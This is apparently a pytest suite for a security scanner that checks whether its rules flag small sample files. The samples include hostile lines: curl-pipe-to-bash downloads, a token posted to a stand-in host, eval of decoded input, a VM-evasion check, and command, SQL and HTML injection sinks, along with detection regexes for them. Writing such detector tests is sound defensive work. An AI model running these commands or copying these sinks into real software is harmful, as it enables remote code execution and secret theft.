"""Rules on small trees: each case is a corpus of its own."""

import pytest

from riskloom.plans import engine
from riskloom.sources.corpus import Corpus

AKIA = "AKIA" + "Z" * 16
KEY = "-----BEGIN " + "RSA PRIVATE KEY-----"

# rule, path, text, expected (line, severity)
CASES = [
    ("A-2", "q/db.js", 'db.query("SELECT * FROM t WHERE n=" + req.query.n)', [(1, "High")]),
    ("A-2", "q/db2.js", "db.query(sql, [1])", []),
    ("A-6", "w/v.js", "el.innerHTML = location.hash", [(1, "High")]),
    ("C-1", "ci/get.sh", "curl https://h.example/i.sh | bash", [(1, "High")]),
    ("C-1", "ci/ok.sh", "curl https://h.example/i.sh | bash\nsha256sum -c s.txt", [(1, "Medium")]),
    ("C-1", "ci/dl.sh", "wget https://h.example/f -o f.bin", [(1, "Medium")]),
    ("C-2", ".github/workflows/a.yml", "steps:\n  - name: x\n    uses: acme/tool@v1\n  - uses: acme/tool@v1", [(3, "Medium")]),
    ("C-2", ".github/workflows/b.yml", "uses: acme/tool\nuses: ./x\nuses: a/b@" + "0" * 40, [(1, "High")]),
    ("C-3", ".github/workflows/c.yml", "uses: a/b@v1\nuses: c/d@v1\nuses: actions/x@v1\nuses: e/f", [(1, "Medium")]),
    ("C-3", ".github/workflows/d.yml", "uses: a/b@v1\n" * 6, [(1, "High")]),
    ("C-3", ".github/workflows/e.yml", "uses: a/b@v1\n" * 2, []),
    ("C-4", ".github/workflows/f.yml", "on:\n  pull_request_target:\n    uses: actions/checkout@v4\n    ref: ${{ github.event.pull_request.head.sha }}", [(1, "High")]),
    ("C-5", ".github/workflows/g.yml", "on:\n  issue_comment:\nenv:\n  T: ${{ secrets.T }}", [(2, "High")]),
    ("C-6", ".github/workflows/h.yml", "uses: actions/download-artifact@v4\nuses: actions/upload-artifact@v4\nretention-days: 31", [(1, "High"), (1, "Medium")]),
    ("C-7", "Makefile", "all:\n\tsudo make install", [(2, "Medium")]),
    ("C-8", "Dockerfile", "FROM python:3.12", [(1, "Medium")]),
    ("D-1", "cfg/app.ini", "password = admin", [(1, "Medium")]),
    ("D-2", "cfg/app.ini", "debug = true", [(1, "Medium")]),
    ("D-2", "cfg/prod.ini", "debug = true", [(1, "High")]),
    ("D-2", "cfg/c.ini", "# debug = true", []),
    ("D-2", ".env", "DEBUG=true", []),
    ("D-3", "cfg/s.toml", 'host = "0.0.0.0"', [(1, "Medium")]),
    ("D-4", "cfg/w.yml", 'allowed_origins: ["*"]', [(1, "Medium")]),
    ("D-5", "cfg/sample.ini", "token = changeme", [(1, "Medium")]),
    ("D-6", "nginx.conf", "", [(1, "Medium")]),
    ("E-1", "s/r.py", '@app.get("/admin")\ndef h():\n    return 1', [(1, "Medium")]),
    ("E-1", "s/r2.py", '@login_required\n@app.get("/admin")', []),
    ("E-1", "s/r3.py", '@login_required\n\n\n\n@app.get("/admin")', [(5, "Medium")]),
    ("E-2", "s/o.py", '@app.get("/orders/{order_id}")\ndef h(order_id): ...', [(1, "Medium")]),
    ("E-3", "s/j.py", 'x = jwt.decode(t, options={"verify_signature": False})', [(1, "Medium")]),
    ("E-4", "s/c.py", "session_cookie_secure = False", [(1, "Low"), (1, "Medium")]),
    ("E-6", "s/d.py", '@app.get("/metrics")', [(1, "Medium")]),
    ("F-4", "doc/t.md", AKIA, [(1, "High")]),
    ("F-4", "doc/u.md", AKIA + " example", []),
    ("F-5", "k/a.pem", KEY + "\n" + KEY, [(1, "Critical")]),
    ("G-1", "d/Dockerfile", "FROM a\nUSER app\nUSER root", [(3, "High")]),
    ("G-1", "e/Dockerfile", "FROM a", [(1, "Medium")]),
    ("G-1", "f/Dockerfile", "", [(1, "Medium")]),
    ("G-2", "k/c.yml", "privileged: true", [(1, "High")]),
    ("G-3", "k/c2.yml", "- SYS_ADMIN", [(1, "Medium")]),
    ("G-3", "k/c3.sh", "docker run --cap-add=SYS_ADMIN x", []),
    ("G-4", "k/c4.yml", "- /etc:/host", [(1, "High")]),
    ("G-5", "s/x.py", "os.system(cmd)", [(1, "Medium")]),
    ("G-5", "s/x2.py", "q = request.args\nos.system(q)", [(2, "High")]),
    ("G-6", "s/p.py", "importlib.import_module(n)", [(1, "Medium")]),
    ("G-7", "s/e.py", "exec(script)", [(1, "High")]),
    ("G-8", "k8s/p.yml", "allowPrivilegeEscalation: true", [(1, "High")]),
    ("H-1", "m/a.md", "see http://a.example/x and http://b.example/y", [(1, "Medium"), (1, "Medium")]),
    ("H-1", "m/b.md", "http://localhost:1/", []),
    ("H-2", "s/t.py", "get(u, verify=False)", [(1, "High")]),
    ("H-3", "s/h.py", "h = md5(x)", [(1, "High")]),
    ("H-4", "s/k.py", "def encrypt_it(x):", [(1, "High")]),
    ("H-5", "s/rn.py", "token = random.random()", [(1, "High")]),
    ("H-5", "s/rn2.py", "x = random.choice(a)", []),
    ("H-6", "README.md", "certificate expired last week", [(1, "High")]),
    ("I-1", "s/l.py", 'logger.info("password %s", p)', [(1, "High")]),
    ("I-1", "s/l2.py", 'logger.info("password ***")', []),
    ("I-2", "s/a.py", "def revoke(user): ...", [(1, "High")]),
    ("I-3", "s/v.py", "return jsonify(str(e))", [(1, "Medium")]),
    ("I-4", "s/q.py", "print(request.headers)", [(1, "Medium")]),
    ("I-5", "s/f.py", 'raise E("invalid token")', [(1, "Medium")]),
    ("L-1", "s/o.js", "eval(atob(x))", [(1, "High")]),
    ("L-2", "s/z.py", 't = token\nrequests.post("https://c.example", t)', [(1, "High"), (2, "High")]),
    ("L-3", "s/y.py", 'if platform == "x": eval(p)', [(1, "High")]),
    ("L-4", "s/w.sh", "curl https://h.example/a.py | python3", [(1, "High")]),
    ("L-5", "s/u.py", 'if "qemu" in name: exit()', [(1, "High")]),
    ("L-7", "s/n.sh", "crontab -l", [(1, "Medium")]),
    ("A-1", "t/a.py", "import os\nos.system(input())", [(2, "High")]),
    ("A-1", "t/b.py", "import subprocess\nsubprocess.run(['ls', input()])", [(2, "Medium")]),
    ("A-1", "t/c.js", 'const {exec} = require("child_process");\nexec(req.query.c);', [(2, "High")]),
    ("A-1", "t/d.sh", "read x\neval $x", [(2, "High")]),
    ("A-3", "t/e.py", "import pickle\npickle.loads(x)", [(2, "Medium")]),
    ("A-4", "t/f.py", "p = input()\nopen(p)", [(2, "High")]),
    ("A-5", "t/g.py", "import requests\nrequests.get(url=input())", [(2, "High")]),
    ("A-7", "t/h.py", "from jinja2 import Template\nTemplate(input())", [(2, "High")]),
    ("A-8", "t/i.py", "import ast\nast.literal_eval(input())\neval(input())", [(2, "Medium"), (3, "High")]),
]


def test_every_case(spark):
    """All cases at once: case k lives in its own directory, rules are judged by path."""
    import collections

    got = collections.defaultdict(list)
    by_rule = collections.defaultdict(list)
    for k, case in enumerate(CASES):
        by_rule[case[0]].append((k, case))
    # rules over the whole corpus, or tied to root paths, run one case at a time below
    alone = {"D-6", "G-7", "H-6", "C-2", "C-3", "C-4", "C-5", "C-6"}
    rows = [(c[1], c[2]) for c in CASES if c[0] not in alone]
    files = spark.createDataFrame([(f"{k}/{c[1]}", c[2]) for k, c in enumerate(CASES) if c[0] not in alone], "path string, text string").cache()
    assert rows
    for r in engine.all_findings(Corpus(spark, files)).collect():
        if r["file_path"] and "/" in r["file_path"] and r["file_path"].split("/", 1)[0].isdigit():
            k = int(r["file_path"].split("/", 1)[0])
            if CASES[k][0] == r["rule_id"]:
                got[k].append((r["line"], r["severity"]))
    for k, (rule, path, _, want) in enumerate(CASES):
        if rule not in alone:
            assert sorted(got[k]) == sorted(want), (rule, path, got[k])
    for rule, path, text, want in CASES:
        if rule in alone:
            c = Corpus(spark, spark.createDataFrame([(path, text)], "path string, text string"))
            found = [(r["line"], r["severity"]) for r in engine.rule_findings(c, rule).collect() if r["file_path"]]
            assert sorted(found) == sorted(want), (rule, path, found)


def _rows(spark, files, rule, **extra):
    c = Corpus(spark, spark.createDataFrame(files, "path string, text string"), **extra)
    return sorted((r["file_path"] or "", r["line"] or 0, r["severity"]) for r in engine.rule_findings(c, rule).collect())


@pytest.mark.parametrize("rule,want", [("J-2", 1), ("J-3", 1), ("J-7", 1), ("K-1", 1), ("H-6", 1), ("B-5", 0), ("D-6", 0), ("J-5", 1)])
def test_empty_corpus(spark, rule, want):
    assert _rows(spark, [], rule) == [("", 0, "Medium")] * want


def test_dependencies(spark):
    req = [("requirements.txt", "a==1.0\nb>=1\nc\n# x\n-r y\ngit+https://x\n"), ("package.json", '{"dependencies": {"d": "1.2.3", "e": "^1.0.0", "f": 1}}')]
    adv = spark.createDataFrame([("python", "a", "1.0", "X", 9.1)], "ecosystem string, name string, version string, vuln_id string, severity_score double")
    assert _rows(spark, req, "B-1", advisories=adv) == [("package.json", 0, "Medium"), ("requirements.txt", 1, "Critical"), ("requirements.txt", 2, "Medium"), ("requirements.txt", 3, "Medium")]
    assert _rows(spark, req, "B-2") == [("package.json", 0, "Medium"), ("requirements.txt", 2, "Medium"), ("requirements.txt", 3, "Medium")]
    assert _rows(spark, [("requirements.txt", "requets==1\npytest==8\nnumpy==1")], "B-3") == [("requirements.txt", 1, "Medium"), ("requirements.txt", 2, "Medium")]
    assert _rows(spark, [("requirements.txt", "django==2.2\nflask\nurllib3==2.0\nleft-pad")], "B-4") == [("requirements.txt", 1, "Medium"), ("requirements.txt", 2, "Low"), ("requirements.txt", 4, "Medium")]
    assert _rows(spark, [("requirements.txt", "x")], "B-5") == [("", 0, "Medium")]
    assert _rows(spark, [("requirements.txt", "x"), ("uv.lock", "")], "B-5") == []
    assert _rows(spark, [("requirements.txt", "pyyaml\nattrs"), ("m.py", "import yaml")], "B-6") == [("requirements.txt", 2, "Low")]
    assert _rows(spark, [("package.json", "[1]"), ("x/package.json", "{bad")], "B-2") == []


def test_licences(spark):
    lock = "[[package]]\nname = \"a\"\nlicense = \"GPL-2.0\"\n[[package]]\nname = \"b\"\nlicense = \"Apache-2.0\"\n"
    assert _rows(spark, [("poetry.lock", lock)], "K-2") == [("", 0, "Medium")]
    gpl = ("package-lock.json", '{"packages": {"node_modules/x": {"license": "GPL-3.0"}}}')
    assert _rows(spark, [gpl], "K-3") == [("", 0, "Medium")]
    assert _rows(spark, [gpl, ("NOTICE", "")], "K-3") == [("", 0, "High")]
    assert _rows(spark, [("requirements.txt", "zzz")], "K-4") == [("requirements.txt", 1, "Medium")]
    assert _rows(spark, [("poetry.lock", '[[package]]\nname = "a"\nlicense = "CC-BY-NC-4.0"'), ("LICENSE", "for personal use only")], "K-5") == [("LICENSE", 1, "High"), ("poetry.lock", 3, "High")]
    assert _rows(spark, [("package.json", '{"license": "UNKNOWN"}')], "K-1") == [("package.json", 0, "Low")]


def test_metadata(spark):
    meta = "last_commit_ts long, author_count int, last_tag_ts long, archived boolean, now_ts long"
    day = 86400

    def rows(rule, *row):
        return [x[2] for x in _rows(spark, [], rule, repo_meta=spark.createDataFrame([row], meta))]

    assert [rows("J-1", 0, None, None, None, d * day) for d in (179, 180, 365)] == [[], ["Medium"], ["High"]]
    assert [rows("J-4", 0, n, None, None, 0) for n in (1, 2, 3, None)] == [["High"], ["Medium"], [], []]
    assert [rows("J-6", 0, 1, None, a, 0) for a in (True, None)] == [["High"], []]
    assert rows("J-5", 0, 1, 1, None, 400 * day) == ["High"]


def test_file_modes(spark):
    files = spark.createDataFrame([("a/id_rsa", "", 0o644), ("b/id_rsa", "", 0o660), ("c/id_rsa", "", 0o600)], "path string, text string, mode int")
    got = sorted((r["file_path"], r["severity"]) for r in engine.rule_findings(Corpus(spark, files), "D-7").collect())
    assert got == [("a/id_rsa", "High"), ("b/id_rsa", "Medium")]


def test_encoding_and_line_ends(spark):
    rows = [("a.py", b"\xff\xfe\x00a verify=False"), ("b.py", "x\r\ny\x0b get(u, verify=False)".encode()), ("c.py", "　# verify=False".encode()), ("prod.env", b"debug=true"), (".env.example", b"debug=true")]
    files = spark.createDataFrame(rows, "path string, content binary")
    c = Corpus(spark, files)
    assert [(r["file_path"], r["line"]) for r in engine.rule_findings(c, "H-2").collect()] == [("b.py", 4)]
    assert [r["file_path"] for r in engine.rule_findings(c, "D-2").collect()] == ["prod.env"]


def test_fused_equals_single_rules(spark):
    files = spark.createDataFrame([(f"{i}/{c[1]}", c[2]) for i, c in enumerate(CASES)], "path string, text string").cache()
    c = Corpus(spark, files)
    fused = sorted(map(str, engine.line_findings(c).select("rule_id", "severity", "file_path", "line").collect()))
    from riskloom.functions.dialect import SPARK
    from riskloom.operators.line_rules import LINE_RULES, line_sql

    single = []
    c.lines.createOrReplaceTempView("lines_of_test")
    for k in ("D-2", "H-1", "C-8", "E-1", "L-2", "A-2"):
        single += [str(r) for r in spark.sql(line_sql(LINE_RULES[k], SPARK, "lines_of_test")).select("rule_id", "severity", "file_path", "line").collect()]
    wanted = [r for r in fused if any(f"rule_id='{k}'" in r for k in ("D-2", "H-1", "C-8", "E-1", "L-2", "A-2"))]
    assert sorted(single) == wanted


def test_error_isolation_and_extension(spark):
    def broken(c):
        return c.files.selectExpr("raise_error('no') AS severity", "path AS file_path", "1L AS line")

    engine.register("X-1", "extra", "Broken", broken)
    engine.register("X-2", "extra", "Every File", lambda c: c.files.selectExpr("'Info' AS severity", "path AS file_path", "CAST(NULL AS BIGINT) AS line"))
    try:
        c = Corpus(spark, spark.createDataFrame([("a.txt", "x")], "path string, text string"))
        findings, errors = engine.run_rules(c, ["X-1", "X-2", "D-1"])
        assert [k for k, _ in errors] == ["X-1"]
        assert [(r["rule_id"], r["file_path"]) for r in findings.collect()] == [("X-2", "a.txt")]
    finally:
        engine.EXTRA.clear()


# ---------------------------------------------------------------- advisories and messages


def test_providers_in_order(spark):
    from riskloom.sources.advisories import SCHEMA, Lookup, lookup, ranked

    rows = [
        ("python", "a", "1.0", "X", 2.0, "nvd", "late", None), ("Python", "A", "1.0", "X", 9.5, "OSV", "first", ["http://r1", "http://r2", "http://r3"]), ("python", "a", "1.0", "Y", 5.0, "github", None, None),
        ("python", "b", "2", "Z", None, "github", None, None), ("python", "a", "1.0", "W", 9.0, "elsewhere", None, None),
    ]
    table = spark.createDataFrame(rows, SCHEMA)
    assert sorted((r["name"], r["vuln_id"], r["source"]) for r in ranked(table).collect()) == [("a", "X", "osv"), ("a", "Y", "github"), ("b", "Z", "github")]
    assert sorted((r["name"], r["vuln_id"]) for r in ranked(table, Lookup(fallback=False)).collect()) == [("a", "X"), ("b", "Z")]
    assert sorted(r["vuln_id"] for r in ranked(table, Lookup(("nvd", "elsewhere"))).collect()) == ["W", "X"]
    assert lookup({"VULN_PROVIDER_ORDER": " NVD, osv", "VULN_ENABLE_FALLBACK": "False"}) == Lookup(("nvd", "osv"), False)
    c = Corpus(spark, spark.createDataFrame([("requirements.txt", "a==1.0\nc>=2")], "path string, text string"), advisories=table)
    got = {r["message"]: r["severity"] for r in engine.rule_findings(c, "B-1").collect()}
    assert got == {
        "a ==1.0 may have a known vulnerability [osv:X] first refs: http://r1, http://r2": "Critical", "a ==1.0 may have a known vulnerability [github:Y] ": "Medium",
        "c may have known vulnerabilities, but its version is not pinned (>=2)": "Medium",
    }
    assert [r["message"] for r in engine.rule_findings(c, "B-2").collect()] == ["c is not pinned to one version (>=2)"]


def test_versions_of_many_parts(spark):
    req = [("requirements.txt", "django==3.1.9.9.9\ndjango==3.2.0.0.0.1\nflask==2\nflask==2.0\nreact==16.99.1.2.3")]
    assert _rows(spark, req, "B-4") == [("requirements.txt", 1, "Medium"), ("requirements.txt", 3, "Medium"), ("requirements.txt", 5, "Medium")]


# ---------------------------------------------------------------- literals before patterns


def test_literals_are_needed():
    import re

    from riskloom.functions.literals import needed, needed_by_any
    from riskloom.operators.line_rules import LINE_RULES

    assert needed(r"(?i)\b(?:curl|wget)\b[^\n]*\|\s*(?:sh|bash)\b") == {"curl", "wget"}
    assert needed(r"(?:ab)?c+\d") is None and needed("a bcd") == {"bcd"} and needed(r"(?i)[Ss]x(?:yz){2}") == {"yz"}
    assert needed_by_any(["abc", "xabcx"]) == {"abc"} and needed_by_any(["abc", "."]) is None
    assert sum(r.literals() is not None for r in LINE_RULES.values()) >= 36
    for text in ("CURL https://x | sh", "wget y|bash"):
        assert any(x in text.lower() for x in needed(r"(?i)\b(?:curl|wget)\b[^\n]*\|\s*(?:sh|bash)\b")) and re.search(r"(?i)\b(?:curl|wget)\b", text)


def test_all_rules_run_once_together(spark, monkeypatch):
    c = Corpus(spark, spark.createDataFrame([("a.py", "import os\nos.system(input())\nx = md5(y)\n")], "path string, text string"))
    monkeypatch.setattr(engine, "rule_findings", lambda *a: pytest.fail("rules ran one by one"))
    findings, errors = engine.run_rules(c)
    assert errors == [] and {"A-1", "H-3", "K-1"} <= {r["rule_id"] for r in findings.collect()}


@pytest.mark.parametrize("starts", ["true", "false"])
def test_rules_find_nothing_where_their_test_fails(spark, starts):
    """The patterns whose literals stand before a rule are needed: all else assumed found, it gives no severity."""
    import re

    from riskloom.functions.dialect import Recorder, _Spark
    from riskloom.operators.line_rules import LINE_RULES

    class Assumed(_Spark):
        def __init__(self, missing):
            self.missing = missing

        def _rx(self, column, pattern):
            return "false" if pattern in self.missing else "true"

        def has(self, column, *tokens):
            return "false" if all(re.escape(t) in self.missing for t in tokens) else "true"

        def starts(self, column, *tokens):
            return starts

        def any(self, array, test):
            return "false"

    columns = ["s", "raw", "ctx33", "ctx46", "ctx24", "ctx34", "ctx11", "path", "lpath", "name", "lname", "suffix", "text", "text_lossy"]
    for rule in LINE_RULES.values():
        if rule.times or rule.literals() is None:
            continue
        recorder = Recorder()
        getattr(rule.rows, "test", rule.rows)(recorder)
        dummy = ", ".join([*(f"'' AS {c}" for c in columns), *(f"true AS {f}" for f in rule.flags)])
        for row in rule.rows(Assumed(set(recorder.patterns))):
            assert spark.sql(f"SELECT {row} AS severity FROM (SELECT {dummy})").first()["severity"] is None, rule.rule_id


# ---------------------------------------------------------------- one pass, numbers and names of any kind


def test_workflow_names(spark):
    """*.y*ml: neither a dot somewhere before a y nor a suffix that merely holds one."""
    text = "uses: acme/tool\nuses: a/b@v1\nuses: c/d@v1\nuses: actions/download-artifact@v4\non:\n  issue_comment:\n"
    names = ["a.my.html", "c.xyml", "d.yaml.txt", "ok.yml", "ok.yaml", "sub/ok.y.ml", "ok.ymsml"]
    for rule in ("C-2", "C-3", "C-5", "C-6"):
        got = {p for p, _, _ in _rows(spark, [(f".github/workflows/{n}", text) for n in names], rule)}
        assert got == {f".github/workflows/{n}" for n in names if "ok." in n}, rule


def test_long_numbers(spark):
    req = [("requirements.txt", "django==99999999999999999999\nflask==00000000000000000001.99999999999999999999\nflask==0000002\nreact==17.00.0\nreact==16.99999999999999999999")]
    assert _rows(spark, req, "B-4") == [("requirements.txt", 2, "Medium"), ("requirements.txt", 3, "Medium"), ("requirements.txt", 5, "Medium")]
    for days, n in (("9" * 40, 1), ("0030", 0), ("31", 1), ("00000000000000000031", 1), ("30", 0)):
        assert len(_rows(spark, [(".github/workflows/a.yml", f"uses: actions/upload-artifact@v4\nretention-days: {days}")], "C-6")) == n, days


def test_long_workflow(spark):
    text = "".join(f"- run: step {i}\n" for i in range(8000)) + "uses: actions/download-artifact@v4\nretention-days: 7\nuses: actions/upload-artifact@v4\nretention-days: 99\n"
    assert _rows(spark, [(".github/workflows/a.yml", text)], "C-6") == [(".github/workflows/a.yml", 8001, "High"), (".github/workflows/a.yml", 8001, "Medium")]
    assert _rows(spark, [(".github/workflows/a.yml", text + "run: cosign verify x")], "C-6") == [(".github/workflows/a.yml", 8001, "Medium")]


def test_files_are_read_once(spark, tmp_path):
    """The pass for all rules has one scan and no shuffle; what the rules over tables read is what it has written."""
    from riskloom.plans.file_pass import Facts, scan

    rows = [(f"{i}/{c[1]}", c[2]) for i, c in enumerate(CASES)] + [("requirements.txt", "zzz"), ("poetry.lock", '[[package]]\nname = "a"\nlicense = "GPL-2.0"')]
    spark.createDataFrame(rows, "path string, text string").write.parquet(f"{tmp_path}/files")
    c = Corpus(spark, spark.read.parquet(f"{tmp_path}/files"))

    def plan(df):
        return df._jdf.queryExecution().executedPlan().toString()

    whole = plan(scan(c, frozenset(engine.RULES)))
    assert whole.count("FileScan") == 1 and "Exchange" not in whole
    facts = engine.facts_of(c)
    both = plan(engine.all_findings(c, facts))
    assert "/files]" not in both and "facts-" in both
    assert {r["rule_id"] for r in engine.all_findings(c, facts).collect()} >= {"K-3", "B-1", "K-4", "J-2", "G-7"}
    facts.release()
    lazy = Facts(c, frozenset({"C-3"}))
    assert lazy.kept == [] and plan(lazy.found).count("FileScan") == 1


def test_contexts_only_where_read(spark):
    from riskloom.plans.file_pass import scan

    c = Corpus(spark, spark.createDataFrame([("a.pem", "x")], "path string, text string"))
    for rule in ("F-5", "B-2", "C-6", "J-2"):
        assert "array_join" not in scan(c, frozenset([rule]))._jdf.queryExecution().optimizedPlan().toString(), rule
    assert scan(c, frozenset(["G-7"]))._jdf.queryExecution().optimizedPlan().toString().count("concat_ws") == 1


def test_copyleft_examples(spark):
    """The first three by place, tokens in order; package-lock names from the name, else the key."""
    lock = '{"packages": {"": {"name": "own", "license": "GPL-3.0"}, "node_modules/z": {"name": " Zed ", "license": "(GPL-2.0 OR AGPL-3.0)"}, "node_modules/@s/y": {"license": "agpl-3.0-only"}, "node_modules/m": {"license": "MIT"}, "x": {"license": "GPL-2.0"}}, "dependencies": {"w": {"license": "GPL-3.0-only"}, "v": 1}}'
    c = Corpus(spark, spark.createDataFrame([("package-lock.json", lock), ("poetry.lock", '[[package]]\nname = "q"\nlicense = "GPL-2.0"')], "path string, text string"))
    (row,) = engine.rule_findings(c, "K-3").collect()
    assert row["message"] == "strong copyleft among the dependencies (zed: AGPL-3.0, GPL-2.0; own: GPL-3.0; @s/y: AGPL-3.0-ONLY)"
    assert [r["severity"] for r in engine.rule_findings(Corpus(spark, spark.createDataFrame([("node_modules/a/package-lock.json", lock)], "path string, text string")), "K-3").collect()] == []
